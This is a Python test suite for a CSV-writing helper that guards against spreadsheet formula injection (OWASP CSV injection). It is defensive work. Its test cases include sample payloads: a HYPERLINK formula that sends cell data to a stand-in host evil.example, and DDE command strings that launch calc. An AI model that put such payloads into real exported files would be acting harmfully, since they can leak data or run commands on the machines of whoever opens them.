"""CSV cells a spreadsheet could run as formulas are written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from azultel.core.csv_safe import csv_cell, csv_text_is_formula, csv_writer

DANGEROUS_FIRST = frozenset("=+-@\t\r")


def _round_trip(cells: list[str]) -> list[str]:
    buffer = io.StringIO(newline="")
    csv_writer(buffer).writerow(cells)
    return next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))


def _first_visible(value: str) -> str:
    """The first character a spreadsheet would look at after trimming blanks, normalised."""
    for char in value:
        if char.isspace() or unicodedata.category(char) in ("Cc", "Cf"):
            continue
        return unicodedata.normalize("NFKC", char)[:1]
    return ""


def _is_plain_number(value: str) -> bool:
    body = value[1:] if value[:1] in ("+", "-") else value
    whole, _, fraction = body.partition(".")
    return (
        whole.isascii()
        and whole.isdigit()
        and (fraction == "" or (fraction.isascii() and fraction.isdigit()))
        and not body.endswith(".")
    )


formula_like = st.builds(
    lambda blanks, start, rest: blanks + start + rest,
    st.text(alphabet=" \t\r\n\u00a0\u3000\u200b\ufeff", max_size=3),
    st.sampled_from(["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe62"]),
    st.text(max_size=20),
)


@given(st.one_of(st.text(), formula_like))
@example('=HYPERLINK("http://evil.example/?x="&A1,"Click")')
@example(" =1+1")
@example("\uff1dcmd|' /C calc'!A0")
@example("\t")
@example("+13055550100")
@example("-")
@example("")
def test_no_written_cell_can_start_a_formula(value: str) -> None:
    # When any text is written as a cell and read back
    (cell,) = _round_trip([value])

    # Then what a spreadsheet sees never starts a formula (plain signed numbers excepted,
    # which can only be read as numbers)
    assert cell[:1] not in DANGEROUS_FIRST or _is_plain_number(cell)
    assert _first_visible(cell) not in DANGEROUS_FIRST - {"\t", "\r"} or _is_plain_number(cell)
    # And the reader gets the value back, with the quote prefix only where it was needed
    needed = value[:1] in ("\t", "\r") or (
        _first_visible(value) in DANGEROUS_FIRST and not _is_plain_number(value)
    )
    assert cell == ("'" + value if needed else value)
    assert csv_text_is_formula(value) is needed


@given(
    st.text().filter(
        lambda value: value[:1] not in ("\t", "\r") and _first_visible(value) not in DANGEROUS_FIRST
    )
)
def test_cells_that_cannot_be_formulas_are_unchanged(value: str) -> None:
    # Given text whose first visible character is not a formula start (no leading tab or CR)
    # When it is written and read back
    (cell,) = _round_trip([value])

    # Then it is exactly what was given
    assert cell == value
    assert csv_cell(value) == value


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=SUM(A1:A2)", "'=SUM(A1:A2)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1", "'  =1"),
        ("\u200b=1", "'\u200b=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff20SUM(1)", "'\uff20SUM(1)"),
        ("-", "'-"),
        ("+1 305 555 0100", "'+1 305 555 0100"),
        ("+13055550100", "+13055550100"),
        ("-12.5", "-12.5"),
        ("'=already quoted", "'=already quoted"),
        ("a=b", "a=b"),
        ("/carrier/", "/carrier/"),
        ("", ""),
    ],
)
def test_known_cells(value: str, written: str) -> None:
    assert csv_cell(value) == written


@pytest.mark.parametrize("value", [-3, 4.5, None, 0])
def test_values_that_are_not_text_are_written_as_they_are(value: object) -> None:
    assert csv_cell(value) is value


def test_writer_hands_back_what_the_file_returns() -> None:
    # Given a file-like object that returns each line instead of storing it (streaming)
    class Echo:
        def write(self, value: str) -> str:
            return value

    # When rows are written
    writer = csv_writer(Echo())

    # Then each line comes back, escaped
    assert writer.writerow(["name", "=1+1", 7]) == "name,'=1+1,7\r\n"


def test_every_csv_the_site_writes_goes_through_the_safe_writer() -> None:
    # Given the project's own code (tests read CSV, they may import csv)
    package = Path(__file__).resolve().parents[2]
    helper = package / "core" / "csv_safe.py"
    # lists/contact_file.py only reads an uploaded CSV (csv.reader); it writes none
    readers = {package / "lists" / "contact_file.py"}
    sources = [
        p
        for p in package.rglob("*.py")
        if "tests" not in p.parts and p != helper and p not in readers
    ]

    # Then no module but the helper imports the csv module to write a file
    direct = [
        str(p.relative_to(package))
        for p in sources
        if re.search(r"^\s*(import csv\b|from csv import)", p.read_text(), re.MULTILINE)
    ]
    assert direct == []
